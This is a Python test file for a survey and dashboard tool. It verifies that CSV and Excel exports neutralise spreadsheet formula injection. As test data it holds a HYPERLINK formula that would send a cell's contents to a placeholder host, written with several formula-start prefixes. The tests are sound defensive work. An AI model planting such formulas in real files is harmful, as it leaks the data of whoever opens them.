"""No file Patron writes carries a live formula (OWASP CSV injection): every export, every prefix."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from patron.cli import app
from patron.core.db import transaction
from patron.core.models import Workspace
from patron.core.safecells import FORMULA_STARTS, neutralise
from patron.dashboard.tables import Column, DataTable, to_csv, to_xlsx
from patron.importers import import_file
from patron.surveys import service as surveys
from patron.surveys.schemas import ResponseSubmit
from patron.surveys.service import save_survey, templates
from tests.dashboard.conftest import Dash, dash, log_in
from tests.factories import make_workspace, write_csv
from tests.web.conftest import client

HOSTILE = [f'{start}HYPERLINK("http://x.invalid/?leak="&A2,"Click for details")' for start in FORMULA_STARTS]
__all__ = ["client", "dash"]  # fixtures used below

ATTACK = '=HYPERLINK("http://x.invalid/?leak="&A2,"Click for details")'


def test_every_formula_start_is_neutralised_and_other_values_are_kept() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for formula in ("-2+3", "+1-1", "-A1", "-1e5+1", "=1", "@SUM(A1)"):
        assert neutralise(formula) == "'" + formula
    for kept in ("茶很好喝", "a=b", " =1", "", 12, -3.5, None, date(2025, 1, 2), "-16.7", "+3", "-1e5"):
        assert neutralise(kept) == kept


def _table() -> DataTable:
    table = DataTable("t", "T", [Column("comment"), Column("score", "score"), Column("n", "int")])
    table.rows = [[text, -12.5, 7] for text in HOSTILE]
    return table


def test_csv_and_excel_exports_write_text_as_text_and_numbers_as_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {(row[1], row[2]) for row in rows[1:]} == {("-12.5", "7")}, "numbers are not touched"
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet is not None
    for row_number, text in enumerate(HOSTILE, start=2):
        comment, score, count = (sheet.cell(row_number, column) for column in (1, 2, 3))
        # (XML stores a carriage return as a line feed)
        assert (comment.data_type, comment.value) == ("s", "'" + text.replace("\r", "\n")), "never a formula"
        assert (score.data_type, score.value, count.value) == ("n", -12.5, 7), "numbers stay numeric"


def test_dashboard_exports_of_responses_and_detractors_are_inert(
    engine: Engine, dash: Dash, client: TestClient
) -> None:
    with transaction(engine) as session:
        surveys.submit_response(session, workspace_id=dash.workspace_id, submission=ResponseSubmit(
            survey="relationship_nps", customer_id="M5", answers={"nps": 2, "reason": ATTACK}))  # fmt: skip
    log_in(client, dash.slug, dash.admin)
    for url in ("/dashboard/responses/export?period=7d&table=responses",
                "/dashboard/alerts/export?period=7d&table=waiting"):  # fmt: skip
        text = client.get(url + "&format=csv").content.decode("utf-8-sig")
        written = [cell for row in csv.reader(io.StringIO(text)) for cell in row if "HYPERLINK" in cell]
        assert written, f"{url}: the answer is exported"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written), url
        sheet = load_workbook(io.BytesIO(client.get(url + "&format=xlsx").content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert any("HYPERLINK" in cell.value for cell in cells), url
        assert not any(cell.value.startswith(("=", "+", "-", "@")) for cell in cells), url
        assert all(cell.data_type == "s" for cell in cells), f"{url}: no formula cell"


def test_rejects_files_and_metrics_csv_are_inert(engine: Engine, tmp_path: Path) -> None:
    slug = make_workspace(engine).slug
    path = write_csv(tmp_path / "people.csv", ("external_id", "email", "segment"),
                     [("A1", "a1@example.com", "=1+1"), ("A2", ATTACK, "vip")])  # fmt: skip
    report = import_file(engine, workspace_slug=slug, kind="customers", path=path, locale="en")
    assert report.rejected == 1 and report.rejects_file is not None
    with Path(str(report.rejects_file)).open(encoding="utf-8-sig") as handle:
        [rejected] = list(csv.DictReader(handle))
    assert rejected["email"] == "'" + ATTACK
    with transaction(engine) as session:
        workspace_id = session.scalars(select(Workspace.id).where(Workspace.slug == slug)).one()
        save_survey(session, workspace_id=workspace_id, definition=templates()["relationship_nps"])
        surveys.submit_response(session, workspace_id=workspace_id, submission=ResponseSubmit(
            survey="relationship_nps", customer_id="A1", answers={"nps": 9}))  # fmt: skip
    output = (
        CliRunner().invoke(app, ["metrics", "nps", "--by", "segment", "--format", "csv", "-w", slug]).output
    )
    [_, row] = list(csv.reader(io.StringIO(output)))
    assert row[0] == "'=1+1", "the segment a customer file gave is text, not a formula"
